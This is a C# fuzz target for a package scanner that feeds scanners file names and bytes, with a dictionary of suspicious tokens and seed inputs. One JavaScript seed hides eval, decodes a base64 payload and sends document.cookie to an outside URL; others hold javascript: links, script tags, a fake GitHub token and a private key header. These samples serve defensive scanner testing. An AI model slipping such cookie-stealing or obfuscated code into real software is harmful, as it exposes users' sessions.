using System.Text;
using Berth.Packaging.Scanning;
using Berth.Packaging.Scanning.Dependencies;

namespace Berth.Fuzz.Targets;

/// <summary>What the scanners are given: the first line of an input is the file's name, the rest its bytes.</summary>
internal sealed class ScanTarget : FuzzTarget
{
    public override string Name => "scan";

    public override int MaxLength => 24 * 1024;

    public override IEnumerable<string> Words =>
    [
        "dist/a.js\n", "dist/a.mjs\n", "dist/a.html\n", "dist/a.svg\n", "lib/net10.0/A.dll\n", "lib/net10.0/A.deps.json\n", "package-lock.json\n", "assets/a.zip\n", "assets/a.tar.gz\n", "advisory.json\n",
        "eval(", "new Function(", "require(", "import(", "String.fromCharCode(", "atob(", "<script>", "</script>", "<!--", "javascript:", "\u202e", "\u200b", "`${", "=>", "/(?:", "BSJB", "MZ", "PK\u0003\u0004",
        "-----BEGIN PRIVATE KEY-----", "ghp_", "AKIA", "berth_pat_", "\"dependencies\":{", "\"lockfileVersion\":3", "\"affected\":[", "\"ranges\":[", "\"introduced\":\"0\"",
    ];

    public override IEnumerable<byte[]> Seeds()
    {
        yield return Utf8("dist/a.js\nconst f = globalThis['ev' + 'al']; f(atob('YWxlcnQoMSk=')); fetch(`https://example.org/${document.cookie}`); new Worker(x);");
        yield return Utf8("dist/b.mjs\nimport a from './a.js'; export default async (x) => { const { y, ...z } = await import('f' + 's'); return y?.[z] ?? x; };");
        yield return Utf8("dist/c.html\n<!doctype html><script type=module>eval('1')</script><a href=\"javascript:alert(1)\" onclick=\"x()\"><svg><script>y()</script></svg>");
        yield return Utf8("package-lock.json\n{\"lockfileVersion\":3,\"packages\":{\"node_modules/left\":{\"version\":\"1.0.0\"}}}");
        yield return Utf8("lib/net10.0/A.deps.json\n{\"targets\":{\".NETCoreApp,Version=v10.0\":{\"A/1.0.0\":{}}},\"libraries\":{\"Left/1.0.0\":{\"type\":\"package\"}}}");
        yield return Utf8("advisory.json\n{\"id\":\"A-1\",\"modified\":\"2026-01-01T00:00:00Z\",\"affected\":[{\"package\":{\"ecosystem\":\"npm\",\"name\":\"left\"},\"ranges\":[{\"type\":\"SEMVER\",\"events\":[{\"introduced\":\"0\"},{\"fixed\":\"1.2.3\"}]}]}],\"severity\":[{\"type\":\"CVSS_V3\",\"score\":\"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H\"}]}");
        yield return Utf8("src/key.txt\ntoken = 'ghp_0123456789abcdefghijABCDEFGHIJ012345'\n-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----");
        // A small assembly that is always there.
        yield return [.. Utf8("lib/net10.0/A.dll\n"), .. File.ReadAllBytes(Path.Combine(AppContext.BaseDirectory, "Mono.Cecil.Rocks.dll"))[..24_000]];
    }

    public override void Run(byte[] input)
    {
        var end = input.AsSpan().IndexOf((byte)'\n');
        var name = end is > 0 and < 200 ? Encoding.UTF8.GetString(input, 0, end) : "dist/a.js";
        var bytes = input.AsMemory(end is > 0 and < 200 ? end + 1 : 0);
        foreach (var verdict in PackageScan.File(name, bytes, ScanRules.BuiltIn))
            Promise(verdict.Outcome is not ScanOutcome.Error, $"the scanner {verdict.Scanner} does not break");
        _ = OsvReader.Read(bytes);
    }
}
